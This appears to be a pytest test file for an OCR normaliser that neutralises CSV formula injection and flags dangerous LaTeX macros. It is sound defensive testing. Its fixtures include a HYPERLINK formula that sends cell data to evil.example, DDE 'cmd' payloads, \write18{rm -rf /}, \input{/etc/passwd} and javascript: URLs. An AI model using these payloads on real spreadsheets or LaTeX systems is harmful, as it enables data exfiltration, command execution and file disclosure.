"""Issue 7, item 16: CSV that a spreadsheet cannot run, CSV cells as printed, and LaTeX macros
that act beyond typesetting reported as `latex` findings."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ocrcheck.cli import main
from ocrcheck.normalise import normalise_document, normalise_formula, normalise_tables
from ocrcheck.normalise._macros import MAX_ARGUMENT_TOKENS, argument
from ocrcheck.normalise.tables import spreadsheet_safe_cell
from ocrcheck.testing import Answer, FakeQwenServer
from tests.client.conftest import KEY, make_image

HOSTILE = ('<table><tr><th colspan="2">Case name</th><th>Total</th><th></th></tr>'
           '<tr><td>=HYPERLINK("http://evil.example/?"&amp;A1,"open")</td><td>@SUM(A1:A9)</td><td>-5</td>'
           '<td>+cmd|\' /C calc\'!A0</td></tr></table>')


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# The payloads of OWASP's CSV injection page and ASVS 1.2.10's list of first characters.
@pytest.mark.parametrize("cell", ["=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
                                  "\t=1", "\r=1", "\0=1", "=HYPERLINK(\"http://x\")", "-1e5", "-A1"])
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert spreadsheet_safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+3.5", "-1,234.00", "-12%", "5", "a=b", "'=1", "", "金额 -5"])
def test_plain_numbers_and_text_stay_as_printed(cell: str) -> None:
    assert spreadsheet_safe_cell(cell) == cell


def test_csv_is_spreadsheet_safe_by_default_and_raw_on_request() -> None:
    table = normalise_tables(HOSTILE).tables[0]
    safe = rows(table.to_csv())
    assert safe[1] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@SUM(A1:A9)", "-5",
                       "'+cmd|' /C calc'!A0"]
    raw = rows(table.to_csv(spreadsheet_safe=False))
    assert raw[1][:2] == ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(A1:A9)"]
    header = normalise_tables("<table><tr><th>=cmd</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>")
    assert rows(header.tables[0].to_csv())[0] == ["'=cmd", "b"]


def test_csv_header_as_printed_records_keys_unique() -> None:
    table = normalise_tables(HOSTILE).tables[0]
    assert rows(table.to_csv())[0] == ["Case name", "Case name", "Total", ""]
    assert list(table.records()[0]) == ["Case name", "Case name.1", "Total", "column_4"]
    assert table.columns == ["Case name", "Case name.1", "Total", "column_4"]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def test_table_command_csv_safe_by_default(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "t.html"
    page.write_text(HOSTILE, encoding="utf-8")
    status, out, _ = run(capsys, "table", str(page))
    assert status == 0 and rows(out)[1][:3] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                                                "'@SUM(A1:A9)", "-5"]
    assert run(capsys, "table", "--spreadsheet-safe", str(page))[1] == out  # the old flag still works
    status, raw, _ = run(capsys, "table", "--no-spreadsheet-safe", str(page))
    assert rows(raw)[1][1] == "@SUM(A1:A9)"


def test_scan_table_parsing_csv_is_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DASHSCOPE_API_KEY", KEY)
    monkeypatch.delenv("OCRCHECK_CACHE_DIR", raising=False)
    image = tmp_path / "page.png"
    image.write_bytes(make_image(640, 480))
    with FakeQwenServer(api_key=KEY) as server:
        server.add_answer(Answer(text=HOSTILE), task="table_parsing")
        status, out, _ = run(capsys, "scan", "--task", "table_parsing", "--base-url", server.base_url, str(image))
    assert status == 0 and rows(out)[1][:2] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                                                "'@SUM(A1:A9)"]


# --- LaTeX macros ------------------------------------------------------------------------------

@pytest.mark.parametrize(("latex", "severity", "variant", "ctx"), [
    (r"\newcommand{\x}{1} \x", "error", "redefines", {"macro": r"\newcommand"}),
    (r"\renewcommand{\frac}{\input} x", "error", "redefines", {"macro": r"\renewcommand"}),
    (r"\providecommand{\x}{1} \x", "error", "redefines", {"macro": r"\providecommand"}),
    (r"\def\x{1}", "error", "redefines", {"macro": r"\def"}),
    (r"\catcode`\@=11 x", "error", "redefines", {"macro": r"\catcode"}),
    (r"\InputIfFileExists{/etc/passwd}{}{}", "error", "files_or_code", {"macro": r"\InputIfFileExists"}),
    (r"\input{/etc/passwd}", "error", "files_or_code", {"macro": r"\input"}),
    (r"\include{secrets}", "error", "files_or_code", {"macro": r"\include"}),
    (r"\immediate\write18{rm -rf /}", "error", "write18", {}),
    (r"\href{javascript:alert(1)}{x}", "error", "risky_url", {"macro": r"\href", "scheme": "javascript"}),
    (r"\href{ JavaScript :alert(1)}{x}", "error", "risky_url", {"macro": r"\href", "scheme": "javascript"}),
    (r"\url{data:text/html,<script>}", "error", "risky_url", {"macro": r"\url", "scheme": "data"}),
    (r"\url{file:///etc/passwd}", "error", "risky_url", {"macro": r"\url", "scheme": "file"}),
    (r"\includegraphics[width=3cm]{/etc/passwd}", "warning", "includegraphics_file", {"file": "/etc/passwd"}),
    (r"\usepackage{amsmath} x", "warning", "preamble_in_formula", {"macro": r"\usepackage"}),
])
def test_risky_macros_in_a_formula_are_latex_findings(latex: str, severity: str, variant: str,
                                                      ctx: dict[str, str]) -> None:
    formula = normalise_formula("$$" + latex + "$$")
    found = [(f.code, f.severity, f.ctx) for f in formula.findings if f.variant == variant]
    assert found == [("latex", severity, ctx)], [(f.variant, f.ctx) for f in formula.findings]


@pytest.mark.parametrize("latex", [r"\href{https://example.com/a?b=1}{x}", r"\url{http://example.com}",
                                   r"\href{mailto:a@example.com}{a}", r"\url{www.example.com}",
                                   r"\href{#section-2}{see}"])
def test_ordinary_links_pass(latex: str) -> None:
    assert normalise_formula("$$" + latex + " x$$").findings == []


def document(preamble: str, body: str = "text") -> str:
    return "\\documentclass{article}\n" + preamble + "\n\\begin{document}\n" + body + "\n\\end{document}"


def test_packages_in_a_document() -> None:
    ordinary = normalise_document(document(r"\usepackage[utf8]{inputenc}\usepackage{amsmath,graphicx}"))
    assert [(f.code, f.severity, f.variant, f.ctx) for f in ordinary.findings] == [
        ("latex", "info", "packages", {"macro": r"\usepackage", "packages": ["inputenc"]}),
        ("latex", "info", "packages", {"macro": r"\usepackage", "packages": ["amsmath", "graphicx"]})]
    risky = normalise_document(document(r"\usepackage{amsmath, minted}\RequirePackage{shellesc}"))
    assert [(f.severity, f.variant, f.ctx) for f in risky.findings] == [
        ("warning", "risky_packages", {"macro": r"\usepackage", "packages": ["minted"]}),
        ("warning", "risky_packages", {"macro": r"\RequirePackage", "packages": ["shellesc"]})]


def test_risky_macros_in_a_document() -> None:
    doc = normalise_document(document(r"\newcommand{\R}{\mathbb{R}}",
                                      r"See \href{javascript:alert(1)}{here}. \includegraphics{fig.png}"))
    assert [(f.field, f.code, f.severity) for f in doc.findings] == [
        ("document", "latex", "error"), ("document", "latex", "error"), ("document", "latex", "warning")]


def test_argument_reading_is_bounded() -> None:
    """An argument is read up to MAX_ARGUMENT_TOKENS tokens, so `\\href{` repeated costs O(n)."""
    assert argument(["[", "w", "]", "{", "a", "{", "b", "}", "}", "x"], 0) == "a{b}"
    assert argument(["{", *["x"] * (MAX_ARGUMENT_TOKENS - 2), "}"], 0) == "x" * (MAX_ARGUMENT_TOKENS - 2)
    assert argument(["{", *["x"] * MAX_ARGUMENT_TOKENS, "}"], 0) is None
    assert argument(["x", "{", "a", "}"], 0) is None
    formula = normalise_formula("$$" + "\\href{javascript:" * 2_000 + "$$")
    assert not any(f.variant == "risky_url" for f in formula.findings)
    assert any(f.code == "latex" and f.severity == "error" for f in formula.findings)
